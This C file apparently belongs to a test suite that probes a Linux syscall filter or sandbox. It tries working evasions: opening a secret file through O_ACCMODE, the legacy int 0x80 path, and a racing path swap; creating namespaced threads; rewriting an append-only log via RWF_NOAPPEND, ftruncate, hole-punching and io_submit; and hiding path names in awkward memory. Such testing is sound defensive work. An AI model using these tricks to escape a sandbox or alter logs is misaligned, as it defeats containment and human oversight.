// Calls that ask for so little that a filter might let them through by itself, and names in memory that is hard to read.
#include "attack.h"
#include <linux/aio_abi.h>
#include <sched.h>
#include <sys/uio.h>
// RWF_NOAPPEND (linux/fs.h)
enum { NO_APPEND = 0x20 };
static long old_open(const char *name, int flags) {
    // The argument registers of int 0x80 hold 32 bits: what they point to lies low.
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long answer;
    strcpy(low, name);
    // open is 5 in the table of i386.
    __asm__ volatile("int $0x80" : "=a"(answer) : "a"(5), "b"(low), "c"(flags) : "memory", "r8", "r9", "r10", "r11");
    return answer;
}
// A descriptor that can neither be read nor written still tells of its file.
static int tells(int descriptor) {
    struct stat status;
    return descriptor >= 0 && syscall(SYS_fstat, descriptor, &status) == 0 && status.st_size == 7;
}
static char name[300];
static volatile int stop;
static void *flip(void *unused) {
    while (!stop) strcpy(name, secret), strcpy(name, open_file);
    return unused;
}
static int path_race(void) {
    pthread_t thread;
    int won = 0;
    strcpy(name, open_file);
    for (int i = 0; i < racers(); i++) pthread_create(&thread, NULL, flip, NULL);
    for (int i = 0; i < tries() && !won; i++) {
        int descriptor = open(name, O_PATH);
        won = tells(descriptor);
        close(descriptor);
    }
    stop = 1;
    return won;
}
static int wait_for_end(void *unused) {
    (void)unused;
    for (;;) pause();
    return 0;
}
static int makes_thread(unsigned long namespace) {
    static char stack[1 << 16];
    return clone(wait_for_end, stack + sizeof stack, CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | namespace, NULL) > 0;
}
// What may only be added to is changed at its beginning.
static int overwrites(const char *way) {
    char log[256], first = 0;
    snprintf(log, sizeof log, "%s/log", arena);
    // The next way finds what this one found, where it may be emptied at all.
    int file = open(log, O_WRONLY | O_TRUNC);
    if (file >= 0) (void)!write(file, "abcd", 4), close(file);
    file = open(log, O_WRONLY | O_APPEND);
    if (file < 0) _exit(9);
    struct iovec part = {"X", 1};
    if (!strcmp(way, "add in place")) syscall(SYS_pwritev2, file, &part, 1, 0, 0, NO_APPEND);
    if (!strcmp(way, "add without position")) lseek(file, 0, SEEK_SET), syscall(SYS_pwritev2, file, &part, 1, -1L, -1L, NO_APPEND);
    if (!strcmp(way, "add by flags")) fcntl(file, F_SETFL, 0), (void)!pwrite(file, "X", 1, 0);
    if (!strcmp(way, "add by emptying")) (void)!ftruncate(file, 0);
    if (!strcmp(way, "add by zeroing")) fallocate(file, 3 /* FALLOC_FL_PUNCH_HOLE, FALLOC_FL_KEEP_SIZE */, 0, 1);
    if (!strcmp(way, "add in a queue")) {
        aio_context_t ring = 0;
        struct io_event event;
        struct iocb entry = {.aio_fildes = file, .aio_lio_opcode = IOCB_CMD_PWRITE, .aio_buf = (unsigned long)"X", .aio_nbytes = 1, .aio_rw_flags = NO_APPEND};
        struct iocb *entries[] = {&entry};
        if (syscall(SYS_io_setup, 1, &ring) == 0 && syscall(SYS_io_submit, ring, 1, entries) == 1)
            syscall(SYS_io_getevents, ring, 1, 1, &event, NULL);
    }
    int reader = open(log, O_RDONLY);
    if (reader < 0) _exit(9);
    return read(reader, &first, 1) != 1 || first != 'a';
}
// Where the name lies makes no difference to what it is.
static int opens_from(const char *way) {
    char *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    size_t length = strlen(secret) + 1;
    if (!strcmp(way, "name at an edge")) {
        munmap(pages + 4096, 4096);
        return is_secret(open(strcpy(pages + 4096 - length, secret), O_RDONLY));
    }
    if (!strcmp(way, "name of 4095")) {
        // The longest that there may be (path_resolution(7)).
        memset(pages, '/', 4096);
        return is_secret(open(strcpy(pages + 4096 - length, secret) - (4096 - length), O_RDONLY));
    }
    if (!strcmp(way, "name at two pages")) return is_secret(open(strcpy(pages + 4096 - length / 2, secret), O_RDONLY));
    if (!strcmp(way, "name to write only")) {
        strcpy(pages, secret);
        return mprotect(pages, 4096, PROT_WRITE) == 0 && is_secret(open(pages, O_RDONLY));
    }
    // memfd_secret is 447: not even the kernel reads it for others.
    int own = syscall(447, 0);
    if (own < 0 || ftruncate(own, 4096) < 0) return 0;
    char *kept = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, own, 0);
    return kept != MAP_FAILED && is_secret(open(strcpy(kept, secret), O_RDONLY));
}
static int attempt(const char *way) {
    // O_ACCMODE: for neither reading nor writing (open(2)).
    if (!strcmp(way, "for neither")) return tells(open(secret, O_ACCMODE));
    if (!strcmp(way, "at for neither")) return tells(openat(AT_FDCWD, secret, O_ACCMODE | O_NONBLOCK));
    if (!strcmp(way, "old for neither")) return tells(old_open(secret, O_ACCMODE));
    if (!strcmp(way, "path race")) return path_race();
    if (!strcmp(way, "thread with mounts")) return makes_thread(CLONE_NEWNS);
    if (!strcmp(way, "thread with a network")) return makes_thread(CLONE_NEWNET);
    if (!strcmp(way, "thread with a name")) return makes_thread(CLONE_NEWUTS);
    if (!strncmp(way, "add", 3)) return overwrites(way);
    if (!strncmp(way, "name", 4)) return opens_from(way);
    _exit(9);
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    return each_way(argv, attempt);
}
